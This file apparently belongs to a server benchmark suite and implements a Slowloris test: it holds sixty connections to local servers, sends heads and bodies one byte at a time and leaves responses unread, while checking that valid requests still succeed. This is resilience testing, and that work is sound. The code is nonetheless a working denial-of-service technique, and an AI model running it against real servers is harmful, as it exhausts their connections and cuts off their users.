"""Slowloris: heads and bodies that come byte by byte, and answers that are not read."""

from __future__ import annotations

import socket
import time
from contextlib import ExitStack

from benchmarks.attacks.base import Attack, AttackContext, Tally, Target
from benchmarks.attacks.raw_http import TIMEOUT, build_head
from benchmarks.load.servers import HOST

_EACH, _PAUSE = 20, 0.1
_LARGE = 2000


def _run(context: AttackContext) -> Tally:
    tally, end, number = Tally(), context.find_deadline(), 0
    with ExitStack() as stack:
        held = [
            (link, rest)
            for target in context.targets
            for link, rest in _open_connections(target, stack)
        ]
        while time.monotonic() < end:
            for place, (link, rest) in enumerate(held):
                if rest and _send_part(link, rest[:1]):
                    held[place] = (link, rest[1:])
            for target in context.targets:
                target.check_row(tally, number)
            number += 1
            time.sleep(_PAUSE)
    tally.requests += len(held)
    return tally


def _open_connections(target: Target, stack: ExitStack) -> list[tuple[socket.socket, bytes]]:
    """Open connections of each kind; give them with what is still to be sent on them."""
    row = target.rows[0]
    slow_head = build_head(f"Content-Length: {len(row)}", "X-Long: " + "a" * 4000)
    slow_body = build_head(f"Content-Length: {len(row) * _LARGE}")
    unread = row.rstrip(b"\n") + b"\n"
    whole = build_head(f"Content-Length: {len(unread) * _LARGE}") + unread * _LARGE
    found = []
    for at_once, later in ((b"POST", slow_head), (slow_body, row * _LARGE), (whole, b"")):
        for _ in range(_EACH):
            link = socket.create_connection((HOST, target.port), TIMEOUT)
            stack.callback(link.close)
            link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
            _send_part(link, at_once)
            found.append((link, later))
    return found


def _send_part(link: socket.socket, part: bytes) -> bool:
    """Send a part; a server may have closed the connection, as it does with one that is late."""
    try:
        link.sendall(part)
    except OSError:
        return False
    return True


ATTACK = Attack("slowloris", "slow heads, slow bodies and slow readers beside valid requests", _run)
